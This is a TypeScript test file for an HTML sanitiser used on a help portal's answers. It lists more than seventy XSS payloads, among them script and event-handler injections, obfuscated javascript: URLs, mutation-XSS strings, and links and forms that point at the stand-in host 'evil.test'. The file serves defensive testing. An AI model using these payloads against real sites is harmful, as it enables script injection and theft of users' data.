import { expect, test } from 'vitest'
import { sanitiseAnswer, wordsOfAnswer } from './sanitise-answer.ts'

/** The grammar of a sanitised answer, independent of the library: our tags, our attributes, text without '<'. */
const HARMLESS =
  /^(?:[^<>]|<\/?(?:p|ul|ol|li|strong|b|em|i|h3|a)>|<br \/>|<a href="(?:\/(?!\/)[^"<>\\]*|https:\/\/[^"<>\s@]+|tel:[0-9+]+|mailto:[a-z0-9.@-]+)"(?: rel="noopener")?>)*$/

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p>ok<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>body{background:url(https://evil.test)}</style>',
  '<style>@import "https://evil.test/x.css"',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<p onmouseover=alert(1)//>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="http://plain.test">x</a>',
  '<a href="https://portal.test@evil.test/">x</a>',
  '<a href="https:/\\evil.test">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="/x" target="_blank" ping="https://evil.test" onclick="alert(1)">x</a>',
  '<a href="/x"onclick=alert(1)>x</a>',
  '<a href=\'/x" onclick="alert(1)\'>x</a>',
  '<a href="/x&quot; onclick=&quot;alert(1)">x</a>',
  '<form action="https://evil.test"><input name=pin><button>ok</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><script>alert(1)</script>',
  '<select><option><script>alert(1)</script></select>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<p>x</p\x00 onclick=alert(1)>',
  '<\x00script>alert(1)</script>',
  '< script>alert(1)</ script>',
  '<p><p><p></div></main></body></html><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}<p>x</p>',
  '<a href="/x" id="content" name="location" class="x">x</a>',
  '<h1>x</h1><h3 id="__proto__" data-x="1">x</h3>',
]

test.for(ATTACKS)('HELP-1 an answer is harmless after sanitising: %j', (html) => {
  const safe = sanitiseAnswer(html)
  expect(safe).toMatch(HARMLESS)
  expect(safe, 'sanitising again changes nothing').toBe(sanitiseAnswer(safe))
})

test('the corpus has at least forty attacks', () => expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(40))

test('what editors need stays as they wrote it', () => {
  const html =
    '<h3>Titre</h3><p>Appelez le <a href="tel:300">300</a>, c’est <strong>gratuit</strong>.<br />Voir <a href="/table">les tarifs</a>.</p><ol><li>un</li><li><em>deux</em></li></ol>'
  expect(sanitiseAnswer(html)).toBe(html)
})

test('ROUTE-5 a link that would leave the portal by accident loses its address and stays as words', () => {
  expect(sanitiseAnswer('<a href="javascript:alert(1)">ici</a>')).toBe('<a>ici</a>')
  expect(sanitiseAnswer('<a href="//evil.test">ici</a>')).toBe('<a>ici</a>')
  expect(sanitiseAnswer('<a href="/.//evil.test">ici</a>')).toBe('<a>ici</a>')
  expect(sanitiseAnswer('<a href="mailto:aide@operator.example">ici</a>')).toBe('<a href="mailto:aide@operator.example">ici</a>')
  expect(sanitiseAnswer('<a href="https://www.operator.example/x?a=1">ici</a>')).toBe(
    '<a href="https://www.operator.example/x?a=1" rel="noopener">ici</a>',
  )
})

test('deep nesting and a megabyte of brackets end quickly', () => {
  const began = performance.now()
  expect(sanitiseAnswer('<b>'.repeat(20_000))).toMatch(HARMLESS)
  expect(sanitiseAnswer('<'.repeat(200_000))).not.toContain('<')
  expect(performance.now() - began).toBeLessThan(3000)
})

test('the words of an answer hold no markup and no entities', () => {
  expect(wordsOfAnswer(sanitiseAnswer('<p>Un &amp; deux</p><ul><li>«\u00a0trois\u00a0» &lt; 4</li></ul>'))).toBe('Un & deux « trois » < 4')
})
